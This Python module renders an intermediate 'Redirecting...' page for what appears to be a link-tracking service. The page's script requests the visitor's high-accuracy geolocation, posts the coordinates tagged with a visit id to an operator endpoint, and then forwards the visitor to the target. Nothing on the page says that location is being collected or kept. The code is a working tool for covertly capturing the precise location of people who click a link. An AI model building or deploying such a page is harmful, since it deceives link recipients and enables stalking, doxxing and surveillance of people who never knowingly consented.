"""
Geolocation Capture Page

Intermediate HTML page served instead of an immediate 302. It asks the
browser for its position, reports it against the visit id, counts down and
then navigates to the target whether or not geolocation was granted.
"""

import html
import json
from typing import Optional


def _js_literal(value) -> str:
    # inline <script> must never contain a literal "</" from operator data
    return json.dumps(value).replace("</", "<\\/")


def render_capture_page(
    target_url: str,
    visit_id: Optional[int],
    merge_url: str,
    delay_seconds: int = 3
) -> str:
    """
    Build the capture page.

    Args:
        target_url: Where the browser goes after the countdown
        visit_id: Visit to attach coordinates to
        merge_url: Endpoint accepting the geolocation report
        delay_seconds: Countdown length
    """
    delay_seconds = max(int(delay_seconds), 0)
    safe_target = html.escape(target_url, quote=True)

    return f"""<!DOCTYPE html>
<html>
<head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <meta name="robots" content="noindex, nofollow">
    <title>Redirecting...</title>
    <noscript><meta http-equiv="refresh" content="{delay_seconds}; url={safe_target}"></noscript>
    <style>
        body {{ font-family: Arial, sans-serif; background: #f8f9fa; color: #333; text-align: center; padding: 50px; }}
        .box {{ background: white; padding: 40px; border-radius: 10px; box-shadow: 0 0 20px rgba(0,0,0,0.1); max-width: 480px; margin: 0 auto; }}
        #countdown {{ font-size: 2em; font-weight: bold; color: #007bff; }}
        a {{ color: #007bff; }}
    </style>
</head>
<body>
    <div class="box">
        <p>Redirecting in <span id="countdown">{delay_seconds}</span>...</p>
        <p><a href="{safe_target}">Continue now</a></p>
    </div>
    <script>
        (function () {{
            var targetUrl = {_js_literal(target_url)};
            var visitId = {_js_literal(visit_id)};
            var mergeUrl = {_js_literal(merge_url)};
            var remaining = {delay_seconds};
            var counter = document.getElementById("countdown");

            function go() {{ window.location.replace(targetUrl); }}

            if (visitId !== null && navigator.geolocation) {{
                navigator.geolocation.getCurrentPosition(function (position) {{
                    var payload = JSON.stringify({{
                        visitId: visitId,
                        latitude: position.coords.latitude,
                        longitude: position.coords.longitude,
                        accuracy: position.coords.accuracy
                    }});
                    fetch(mergeUrl, {{
                        method: "POST",
                        headers: {{ "Content-Type": "application/json" }},
                        body: payload,
                        keepalive: true
                    }}).catch(function () {{}});
                }}, function () {{}}, {{ enableHighAccuracy: true, timeout: {delay_seconds * 1000 or 1000}, maximumAge: 0 }});
            }}

            var timer = setInterval(function () {{
                remaining -= 1;
                if (counter) {{ counter.textContent = Math.max(remaining, 0); }}
                if (remaining <= 0) {{ clearInterval(timer); go(); }}
            }}, 1000);
            if (remaining <= 0) {{ clearInterval(timer); go(); }}
        }})();
    </script>
</body>
</html>
"""
